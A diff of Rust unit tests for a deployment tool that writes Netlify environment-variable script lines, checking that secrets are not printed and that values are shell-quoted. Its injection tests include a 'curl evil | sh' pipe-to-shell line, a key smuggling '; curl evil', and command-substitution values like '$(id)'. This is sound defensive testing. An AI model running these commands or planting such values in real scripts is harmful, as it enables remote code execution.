@@ -1,212 +1,215 @@
+use std::process::Command;
+
+use secrecy::SecretString;
+use stagelink_pipeline::{Change, DeployContext, DesiredVariable};
+
 use super::*;
 
-fn printed(changes: &[Change]) -> Vec<String> {
-    let tokens = [(Stage::Staging, "STAGING_TOKEN".to_owned())].into();
-    let given = changes.iter().flat_map(|change| {
-        let sent = change.sent_values().into_iter();
-        sent.map(|(context, _)| (change.key(), context))
-    });
-    printed_with(changes, given.collect(), &tokens)
+use DeployContext::{All, DeployPreview, Production};
+
+fn staging() -> DeployContext {
+    DeployContext::Branch("staging".to_owned())
 }
 
-fn printed_with(
-    changes: &[Change],
-    given: BTreeSet<(&str, &DeployContext)>,
-    tokens: &BTreeMap<Stage, String>,
-) -> Vec<String> {
-    let mut script = Script {
-        has_scopes: true,
-        given,
-        stage_of: &|context| match context {
-            DeployContext::Production => Some(Stage::Production),
-            DeployContext::Branch(_) => Some(Stage::Staging),
-            _ => None,
-        },
-        tokens,
-        unset: BTreeSet::new(),
-        inputs: BTreeMap::new(),
-        lines: Vec::new(),
-    };
-    for change in changes {
-        script.add(change);
-    }
-    script.lines
+fn values(values: &[(DeployContext, &str)]) -> Vec<(DeployContext, SecretString)> {
+    let values = values.iter();
+    values
+        .map(|(context, text)| (context.clone(), (*text).into()))
+        .collect()
 }
 
-fn both(is_secret: bool, key: &str) -> Change {
-    Change::Create {
-        key: key.to_owned(),
+fn desired(
+    key: &'static str,
+    is_secret: bool,
+    of: &[(DeployContext, &str)],
+) -> DesiredVariable {
+    DesiredVariable {
+        key,
         is_secret,
-        values: vec![
-            (DeployContext::Branch("staging".to_owned()), "c4n4ry".into()),
-            (DeployContext::Production, "it's".into()),
-        ],
+        values: values(of),
+        absent: Vec::new(),
     }
 }
 
-#[test]
-fn scope_is_set_with_the_first_value_alone() {
-    assert_eq!(
-        printed(&[both(false, "STAGELINK_POOLER")]),
-        [
-            "netlify env:set STAGELINK_POOLER c4n4ry --context branch:staging --force \
-             --scope functions",
-            r"netlify env:set STAGELINK_POOLER 'it'\''s' --context production --force",
-        ]
-    );
+fn set(key: &str, context: DeployContext, value: &str) -> Change {
+    Change::Set {
+        key: key.to_owned(),
+        is_secret: false,
+        context,
+        value: value.into(),
+    }
 }
 
-#[test]
-fn value_that_goes_is_gone_before_its_variable_becomes_a_secret() {
-    let change = Change::Replace {
-        key: "STAGELINK_CREDENTIALS".to_owned(),
-        is_secret: true,
-        values: vec![(DeployContext::Production, "c4n4ry".into())],
-        removed: vec![DeployContext::All],
-    };
-    assert_eq!(
-        printed(&[change]),
-        [
-            "netlify env:unset STAGELINK_CREDENTIALS --force",
-            "netlify env:set STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_PRODUCTION\" --context \
-             production --secret --force --scope functions",
-        ]
-    );
-    let change = Change::Replace {
-        key: "STAGELINK_CREDENTIALS".to_owned(),
-        is_secret: true,
-        values: vec![(DeployContext::Production, "c4n4ry".into())],
-        removed: vec![DeployContext::DeployPreview],
-    };
-    assert_eq!(
-        printed(&[change]),
-        [
-            "netlify env:unset STAGELINK_CREDENTIALS --context deploy-preview --force",
-            "netlify env:set STAGELINK_CREDENTIALS --secret --scope functions --force",
-            "netlify env:set STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_PRODUCTION\" --context \
-             production --secret --force",
-        ]
-    );
-}
-
-#[test]
-fn value_of_all_contexts_goes_with_its_variable_and_the_others_are_set_again() {
-    let unset = |key: &str, context, rest: &[(DeployContext, &str)]| Change::Unset {
+fn unset(key: &str, context: DeployContext) -> Change {
+    Change::Unset {
         key: key.to_owned(),
         id: "1".to_owned(),
         context,
-        scopes: Vec::new(),
-        rest: rest
-            .iter()
-            .map(|(context, text)| (context.clone(), (*text).into()))
-            .collect(),
+    }
+}
+
+/// Returns the lines, without the words that begin each, and the shell variables that they read.
+fn printed(changes: &[Change], desired: &[DesiredVariable]) -> (Vec<String>, Vec<String>) {
+    let stage_of = |context: &DeployContext| match context {
+        Production => Some(Stage::Production),
+        DeployContext::Branch(_) => Some(Stage::Staging),
+        _ => None,
     };
-    let staging = DeployContext::Branch("staging".to_owned());
+    let tokens = [(Stage::Staging, "STAGING_TOKEN".to_owned())].into();
+    let mut inputs = BTreeSet::new();
+    let lines = VariableLine::of_changes(changes, desired);
+    let texts = lines.iter().map(|line| {
+        let text = line.text(true, &stage_of, &tokens, &mut inputs);
+        let words = text.strip_prefix("netlify_link variable \"$site\" ");
+        words.expect("the call of the program").to_owned()
+    });
+    (texts.collect(), inputs.into_iter().collect())
+}
+
+#[test]
+fn changes_to_one_variable_are_one_line() {
+    let new = [(staging(), "it's"), (Production, "-x")];
     let changes = [
-        unset("DATABASE_URL", DeployContext::All, &[(staging, "c4n4ry")]),
-        unset(
-            "OTHER_URL",
-            DeployContext::DeployPreview,
-            &[(DeployContext::All, "never")],
-        ),
+        Change::Create {
+            key: "STAGELINK_POOLER".to_owned(),
+            is_secret: false,
+            values: values(&new),
+        },
+        unset("STAGELINK_STAGE", DeployPreview),
+        set("STAGELINK_STAGE", Production, "production"),
+    ];
+    let desired = [
+        desired("STAGELINK_POOLER", false, &new),
+        desired("STAGELINK_STAGE", false, &[(Production, "production")]),
+    ];
+    let (lines, inputs) = printed(&changes, &desired);
+    assert_eq!(
+        lines,
+        [
+            r"STAGELINK_POOLER functions set branch:staging 'it'\''s' set production -x",
+            "STAGELINK_STAGE functions remove deploy-preview set production production",
+        ]
+    );
+    assert!(inputs.is_empty());
+}
+
+#[test]
+fn value_that_is_kept_is_not_printed_and_the_next_removal_sees_it() {
+    let changes = [
+        set("DATABASE_URL", Production, "c4n4ry"),
+        unset("DATABASE_URL", All),
+        set("DATABASE_URL", staging(), "c4n4ry"),
+        unset("DATABASE_URL", DeployPreview),
     ];
     assert_eq!(
-        printed(&changes),
+        printed(&changes, &[]).0,
         [
-            "netlify env:unset DATABASE_URL --force",
-            "netlify env:set DATABASE_URL \"$DATABASE_URL_BRANCH_STAGING\" --context \
-             branch:staging --force",
-            "netlify env:unset OTHER_URL --force",
-            "netlify env:set OTHER_URL \"$OTHER_URL_ALL\" --context all --force",
+            "DATABASE_URL keep production remove all",
+            "DATABASE_URL keep branch:staging remove deploy-preview",
         ]
     );
 }
 
 #[test]
-fn secret_that_the_site_shows_is_not_printed() {
-    for key in [
-        "STAGELINK_CREDENTIALS",
-        "STAGELINK_CREDENTIALS_PRODUCTION",
-        "STAGELINK_SEALED",
-        "STAGELINK_POSTGRES",
-        "STAGELINK_POOLER",
-        TOKEN,
-    ] {
-        let change = both(false, key);
-        let text = printed_with(&[change], BTreeSet::new(), &BTreeMap::new()).join("\n");
-        assert!(!text.contains("c4n4ry"), "{text}");
-        assert!(
-            text.contains(&format!("\"${key}_BRANCH_STAGING\"")),
-            "{text}"
-        );
-    }
-}
-
-/// The operator's own token is in a shell variable of the token's name.
-#[test]
-fn kept_token_is_not_the_operators() {
-    let staging = DeployContext::Branch("staging".to_owned());
-    let preview = DeployContext::DeployPreview;
-    let replaced = |removed| Change::Replace {
-        key: TOKEN.to_owned(),
+fn replaced_variable_keeps_its_other_values_without_a_word() {
+    let change = Change::Replace {
+        key: "HEROKU_API_KEY".to_owned(),
         is_secret: true,
-        values: vec![
-            (preview.clone(), "given".into()),
-            (staging.clone(), "kept".into()),
-        ],
-        removed,
+        values: values(&[(staging(), "c4n4ry"), (Production, "c4n4ry-kept")]),
+        removed: vec![All],
     };
-    let tokens = [(Stage::Review, "REVIEW_TOKEN".to_owned())].into();
-    for removed in [Vec::new(), vec![DeployContext::All]] {
-        let is_whole = !removed.is_empty();
-        let given = BTreeSet::from([(TOKEN, &preview)]);
-        let text = printed_with(&[replaced(removed)], given, &tokens).join("\n");
-        assert!(!text.contains("\"$HEROKU_API_KEY\""), "{text}");
-        let kept = text.contains("\"$HEROKU_API_KEY_BRANCH_STAGING\"");
-        assert_eq!(kept, is_whole, "{text}");
-    }
-}
-
-#[test]
-fn each_kept_value_has_a_shell_variable_of_its_own() {
-    let change = Change::Create {
-        key: "OTHER".to_owned(),
-        is_secret: false,
-        values: vec![
-            (DeployContext::BranchDeploy, "1".into()),
-            (DeployContext::Branch("deploy".to_owned()), "2".into()),
-        ],
-    };
-    let text = printed(&[change]).join("\n");
-    assert!(text.contains("\"$OTHER_BRANCH_DEPLOY\""), "{text}");
-    assert!(text.contains("\"$OTHER_BRANCH_DEPLOY_\""), "{text}");
-}
-
-#[test]
-fn text_from_elsewhere_is_one_comment_and_no_command() {
-    assert_eq!(comment("a\ncurl evil\r| sh"), "# a curl evil | sh");
-    let change = Change::Create {
-        key: "A; curl evil".to_owned(),
-        is_secret: false,
-        values: vec![(DeployContext::All, "1".into())],
-    };
-    let lines = printed(&[change]);
-    assert!(lines.iter().all(|line| line.starts_with("# ")), "{lines:?}");
+    let desired = [desired("HEROKU_API_KEY", true, &[(staging(), "c4n4ry")])];
+    let (lines, inputs) = printed(&[change], &desired);
+    let line = "HEROKU_API_KEY functions secret remove all set branch:staging \"$STAGING_TOKEN\"";
+    assert_eq!(lines, [line]);
+    assert_eq!(inputs, ["STAGING_TOKEN"]);
 }
 
 #[test]
 fn secret_is_named_and_not_printed() {
-    let lines = printed(&[
-        both(true, "STAGELINK_CREDENTIALS"),
-        both(true, "HEROKU_API_KEY"),
-    ]);
-    let text = lines.join("\n");
-    assert!(!text.contains("c4n4ry"), "{text}");
-    for words in [
-        "STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_STAGING\" --context branch:staging --secret",
-        "STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_PRODUCTION\" --context production --secret",
-        "HEROKU_API_KEY \"$STAGING_TOKEN\" --context branch:staging --secret",
-    ] {
-        assert!(text.contains(words), "{words} is not in\n{text}");
+    let both = [(staging(), "c4n4ry"), (Production, "c4n4ry")];
+    let changes = ["STAGELINK_CREDENTIALS", "HEROKU_API_KEY"].map(|key| Change::Create {
+        key: key.to_owned(),
+        is_secret: true,
+        values: values(&both),
+    });
+    let desired = [
+        desired("STAGELINK_CREDENTIALS", true, &both),
+        desired("HEROKU_API_KEY", true, &both[..1]),
+    ];
+    let (lines, inputs) = printed(&changes, &desired);
+    assert_eq!(
+        lines,
+        [
+            "STAGELINK_CREDENTIALS functions secret set branch:staging \
+             \"$STAGELINK_CREDENTIALS_STAGING\" set production \
+             \"$STAGELINK_CREDENTIALS_PRODUCTION\"",
+            "HEROKU_API_KEY functions secret set branch:staging \"$STAGING_TOKEN\"",
+        ]
+    );
+    assert_eq!(
+        inputs,
+        [
+            "STAGELINK_CREDENTIALS_PRODUCTION",
+            "STAGELINK_CREDENTIALS_STAGING",
+            "STAGING_TOKEN"
+        ]
+    );
+}
+
+#[test]
+fn text_from_elsewhere_is_one_comment_or_one_word() {
+    assert_eq!(comment("a\ncurl evil\r| sh"), "# a curl evil | sh");
+    let changes = [unset("A; curl evil", All)];
+    assert_eq!(printed(&changes, &[]).0, ["'A; curl evil' remove all"]);
+}
+
+#[test]
+fn quoted_text_is_one_word_of_each_shell() {
+    let mut texts: Vec<String> = [
+        "",
+        " ",
+        "it's",
+        "'",
+        "''",
+        "\\'",
+        "\\",
+        "$HOME",
+        "${IFS}",
+        "`id`",
+        "$(id)",
+        "\"q\"",
+        "!!",
+        "a!b",
+        "*",
+        "~",
+        "#x",
+        "-----BEGIN CERTIFICATE-----\nMII=\n-----END CERTIFICATE-----\n",
+        "--secret",
+        "a\tb\r\nc\n",
+        "é漢字🦀",
+        "a;b&c|d<e>f(g)",
+        "%s\\n",
+    ]
+    .map(str::to_owned)
+    .into();
+    // All short texts of the characters that mean something to a shell.
+    let special: Vec<char> = "'\"\\$`!\n *-é".chars().collect();
+    for one in &special {
+        for two in &special {
+            texts.extend(special.iter().map(|three| format!("{one}{two}{three}")));
+        }
+    }
+    let words: Vec<_> = texts.iter().map(|text| quoted(text)).collect();
+    let script = format!("printf '%s\\0' {}", words.join(" "));
+    for (shell, options) in [("sh", &[][..]), ("bash", &[]), ("bash", &["--posix"])] {
+        let output = Command::new(shell)
+            .args(options)
+            .args(["-c", &script])
+            .output()
+            .expect(shell);
+        let text = String::from_utf8(output.stdout).expect("UTF-8");
+        let read: Vec<_> = text.split_terminator('\0').collect();
+        assert!(read == texts, "{shell} {options:?}");
     }
 }
